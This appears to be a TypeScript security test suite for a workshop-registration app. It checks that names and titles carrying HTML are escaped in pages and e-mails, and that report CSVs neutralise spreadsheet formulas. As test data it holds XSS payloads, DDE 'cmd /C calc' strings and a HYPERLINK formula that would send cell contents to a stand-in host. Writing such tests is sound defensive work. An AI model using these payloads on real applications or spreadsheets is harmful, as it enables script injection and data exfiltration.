import { waitFor } from '@passerelle/testing';
import { activationToken, bearer, compiledReport, PARTICIPANT, PROPOSAL, partnerInstitution, SHARING, WORKSHOP } from './support/callers';
import { parseCsv } from './support/csv';
import { PRODUCTION_ENV } from './support/security';
import { type Stack, startStack, tokenIn } from './support/stack';

/**
 * What the product writes out for people and spreadsheets (issue 19), on a production-mode stack: names
 * and titles carrying HTML come out escaped in the RSVP page, its e-mail and the activation page; names
 * that a spreadsheet would run as a formula (= + - @, after a tab or a CR too) come out of the report
 * CSVs prefixed with an apostrophe (libs/reporting/src/report/report.csv.ts).
 */

const SCRIPT = `<script>alert("xss")</script>`;
const IMG = `"><img src=x onerror=alert(1)>`;
const SVG = `<svg onload=alert(2)>`;
const escaped = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');

/** No markup from the payloads: among the page's tags, no script, img or svg element and no event handler attribute. */
function expectInert(html: string, what: string): void {
  const tags = html.match(/<\/?[a-z][^>]*>/gi) ?? [];
  expect(tags.length).toBeGreaterThan(0);
  expect({ what, found: tags.filter((tag) => /^<\/?(script|img|svg)\b|\son[a-z]+\s*=/i.test(tag)) }).toEqual({ what, found: [] });
}

/** Formula starts, and what the CSV must hold for each (the API trims names: a leading tab or CR goes first). */
const FORMULAS: [string, string][] = [
  ['=HYPERLINK("http://evil.test/?"&A1,"Open")', `'=HYPERLINK("http://evil.test/?"&A1,"Open")`],
  ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
  ['-2+3', `'-2+3`],
  ['@SUM(1+1)*cmd|\' /C calc\'!A0', `'@SUM(1+1)*cmd|' /C calc'!A0`],
  ['\t=1+1', `'=1+1`],
  ['\r\n=2+2', `'=2+2`],
];
const BENIGN: [string, string][] = [
  ['Jean-Pierre Ndiaye', 'Jean-Pierre Ndiaye'],
  ["O'Brien, Siobhán", "O'Brien, Siobhán"],
  ['1+1=2 Institute', '1+1=2 Institute'],
];

describe('output for people and spreadsheets: escaped pages, neutralised CSV formulas', () => {
  let stack: Stack;
  let admin: Record<string, string>;

  beforeAll(async () => {
    stack = await startStack('security_output', { env: { ...PRODUCTION_ENV, APPROVALS_REQUIRED: '1' } });
    admin = bearer(stack.token);
  });

  afterAll(async () => {
    await stack?.close();
  });

  it('escapes a workshop title and participant names carrying HTML in the RSVP page and its e-mail', async () => {
    const workshop = { ...WORKSHOP, title: `Open data ${SCRIPT}`, hostInstitution: `Institute ${IMG}`, city: `Lusaka ${SVG}` };
    const created = await stack.http.post('/api/workshops').set(admin).send(workshop).expect(201);
    await stack.http.post(`/api/workshops/${created.body.id}/open-registration`).set(admin).expect(200);
    const names = [`Siti ${SCRIPT}`, `Siti ${IMG}`];
    const participants = names.map((fullName, i) => ({ ...PARTICIPANT, fullName, email: `xss-${i}@delegation.test` }));
    await stack.http.post(`/api/workshops/${created.body.id}/invitations`).set(admin).send({ participants }).expect(202);

    for (const { fullName, email } of participants) {
      await waitFor(() => stack.smtp.to(email).length >= 1, { timeoutMs: 30_000, what: `the invitation to ${email}` });
      const mail = stack.smtp.to(email)[0].parsed;
      expectInert(String(mail.html), `the e-mail to ${email}`);
      expect(mail.html).toContain(escaped(fullName));
      const token = tokenIn(mail.text ?? '');
      const pages = [await stack.http.get(`/rsvp/${token}`).expect(200)];
      const answered = await stack.http.post(`/rsvp/${token}`).type('form').send('response=accept').expect(303);
      pages.push(await stack.http.get(answered.headers.location).expect(200));
      for (const page of pages) {
        expect(page.headers['content-type']).toBe('text/html; charset=utf-8');
        expectInert(page.text, `the RSVP page of ${email}`);
        for (const text of [fullName, workshop.title, workshop.hostInstitution, workshop.city]) expect(page.text).toContain(escaped(text));
        expect(page.text).toContain(`<title>${escaped(workshop.title)}</title>`);
      }
      const json = await stack.http.get(`/api/rsvp/${token}`).expect(200);
      expect(json.headers['content-type']).toMatch(/^application\/json/);
      expect(json.body).toMatchObject({ fullName, workshop: { title: workshop.title } });
    }
    const reflected = await stack.http.get(`/rsvp/${encodeURIComponent(SCRIPT)}`).expect(404);
    expectInert(reflected.text, 'the RSVP page of a link carrying a script');
    expect(reflected.text).not.toContain('alert');
  });

  it('escapes a contact name carrying HTML in the activation page', async () => {
    const contact = { fullName: `Awa ${SCRIPT} ${IMG}`, email: 'awa@pasteur.test' };
    await stack.http.post('/api/partner-institutions').set(admin).send({ name: `Institut ${SVG}`, country: 'SN', contact: { ...contact, language: 'fr' } }).expect(201);
    const token = await activationToken(stack, contact.email);
    const page = await stack.http.get(`/activate/${token}`).expect(200);
    expect(page.headers['content-type']).toBe('text/html; charset=utf-8');
    expectInert(page.text, 'the activation page');
    expect(page.text).toContain(`Bienvenue, <bdi>${escaped(contact.fullName)}</bdi>.`);
    const reflected = await stack.http.get(`/activate/${encodeURIComponent(IMG)}`).expect(404);
    expectInert(reflected.text, 'the activation page of a link carrying markup');
    expect(reflected.text).not.toContain('onerror');
  });

  it('prefixes with an apostrophe every report CSV field a spreadsheet would run as a formula, and leaves the others alone', async () => {
    const cases = [...FORMULAS, ...BENIGN];
    const participants = cases.map(([name], i) => ({ ...PARTICIPANT, fullName: name, organization: name, position: name, email: `csv-${i}@delegation.test` }));
    const created = await stack.http.post('/api/workshops').set(admin).send({ ...WORKSHOP, title: 'Formulas' }).expect(201);
    const id = created.body.id as string;
    const session = await stack.http.post(`/api/workshops/${id}/sessions`).set(admin).send({ ...SHARING, title: '=1+2' }).expect(201);
    await stack.http.post(`/api/workshops/${id}/open-registration`).set(admin).expect(200);
    const invited = await stack.http.post(`/api/workshops/${id}/invitations`).set(admin).send({ participants }).expect(202);

    const partner = await partnerInstitution(stack, '@SUM(1+1)*cmd', { fullName: 'Formula Contact', email: 'formula@partner.test' });
    const proposal = await stack.http.post('/api/proposals').set(partner.headers).send({ ...PROPOSAL, title: '=cmd|\' /C calc\'!A0', workshopId: id }).expect(201);
    const submitted = await stack.http.post(`/api/proposals/${proposal.body.id}/submit`).set(partner.headers).expect(200);
    await waitFor(async () => (await stack.http.get(`/api/proposals/${proposal.body.id}`).set(admin).set('X-Min-Position', String(submitted.body.position))).status === 200, {
      timeoutMs: 30_000,
      what: 'the submitted proposal in the read model',
    });

    await stack.http.post(`/api/workshops/${id}/start`).set(admin).expect(200);
    const ids = invited.body.items.map((item: { id: string }) => item.id);
    await stack.http.post(`/api/workshops/${id}/sessions/${session.body.sessionId}/attendance`).set(admin).send({ invitationIds: ids }).expect(200);
    await stack.http.post(`/api/workshops/${id}/conclude`).set(admin).expect(202);
    await compiledReport(stack, id);

    const csv = await stack.http.get(`/api/workshops/${id}/report.csv`).set(admin).buffer(true).expect(200);
    const [header, ...rows] = parseCsv(csv.text.replace(/^\uFEFF/, ''));
    expect(header).toEqual(['Country code', 'Country', 'Organisation', 'Full name', 'E-mail', 'Position', 'Invitation status', 'Sessions attended', 'Sessions']);
    const byEmail = new Map(rows.map((row) => [row[4], row]));
    for (const [i, [name, expected]] of cases.entries()) {
      const [, , organization, fullName, , position, , , sessions] = byEmail.get(`csv-${i}@delegation.test`)!;
      expect({ name, cells: { organization, fullName, position, sessions } }).toEqual({ name, cells: { organization: expected, fullName: expected, position: expected, sessions: expect.stringMatching(/^'=1\+2 \(\d/) } }); // the session's title, then its local time
    }
    const everyCell = rows.flat();
    expect(everyCell.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const proposals = await stack.http.get(`/api/workshops/${id}/report.csv?file=proposals`).set(admin).buffer(true).expect(200);
    const [, ...proposalRows] = parseCsv(proposals.text.replace(/^\uFEFF/, ''));
    expect(proposalRows.map((row) => row.slice(0, 2))).toEqual([[`'=cmd|' /C calc'!A0`, "'@SUM(1+1)*cmd"]]);
  });
});
